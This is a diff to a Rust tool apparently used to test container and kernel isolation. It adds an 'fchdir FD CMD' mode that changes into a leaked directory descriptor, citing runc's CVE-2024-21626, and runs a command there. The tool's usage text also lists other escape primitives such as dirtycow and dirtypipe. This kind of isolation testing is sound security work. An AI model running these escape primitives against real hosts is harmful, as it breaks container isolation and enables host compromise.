@@ -5,7 +5,8 @@
 //!
 //! Usage: primitives <dirtycow FILE | dirtycow-ptrace FILE | dirtypipe FILE | procmem | pvwritev | ptrace PID |
 //!        bpf | open-by-handle | userfaultfd | connect PATH | finit-module | setns32 NSFILE CMD | setns NSFILE CMD |
-//!        int80 NR [ARG | s:STRING]... | iouring-open PATH r|w | fsmount-read DEV FSTYPE FILE>
+//!        int80 NR [ARG | s:STRING]... | iouring-open PATH r|w | fsmount-read DEV FSTYPE FILE |
+//!        fchdir FD CMD>
 
 use std::{
     ffi::CString,
@@ -537,6 +538,18 @@ fn setns64(path: &str, cmd: &str) {
     exec(cmd)
 }
 
+/// fchdir(2) to an inherited directory descriptor (one opened outside the container, as runc's
+/// leaked fd of CVE-2024-21626), then exec `cmd` there.
+fn fchdir_exec(fd: &str, cmd: &str) {
+    let fd: i32 = fd.parse().unwrap_or_else(|_| fail("fd"));
+    // SAFETY: fchdir on a descriptor number; a bad one is an error, not UB.
+    if unsafe { libc::fchdir(fd) } != 0 {
+        fail("fchdir");
+    }
+    println!("fchdir ok");
+    exec(cmd)
+}
+
 fn exec(cmd: &str) -> ! {
     let c = CString::new(cmd).unwrap_or_else(|_| fail("command"));
     let argv = [c.as_ptr(), std::ptr::null()];
@@ -571,9 +584,10 @@ fn main() {
         Some("fsmount-read") => fsmount_read(&arg(2), &arg(3), &arg(4)),
         #[cfg(target_arch = "x86_64")]
         Some("int80") => int80(&arg(2), &args[3..]),
+        Some("fchdir") => fchdir_exec(&arg(2), &arg(3)),
         _ => {
             eprintln!(
-                "usage: primitives <dirtycow FILE|dirtycow-ptrace FILE|dirtypipe FILE|procmem|pvwritev|ptrace PID|bpf|open-by-handle|userfaultfd|connect PATH|finit-module|setns32 NSFILE CMD|setns NSFILE CMD|int80 NR [ARG|s:STRING]...|iouring-open PATH r|w|fsmount-read DEV FSTYPE FILE>"
+                "usage: primitives <dirtycow FILE|dirtycow-ptrace FILE|dirtypipe FILE|procmem|pvwritev|ptrace PID|bpf|open-by-handle|userfaultfd|connect PATH|finit-module|setns32 NSFILE CMD|setns NSFILE CMD|int80 NR [ARG|s:STRING]...|iouring-open PATH r|w|fsmount-read DEV FSTYPE FILE|fchdir FD CMD>"
             );
             exit(2);
         }
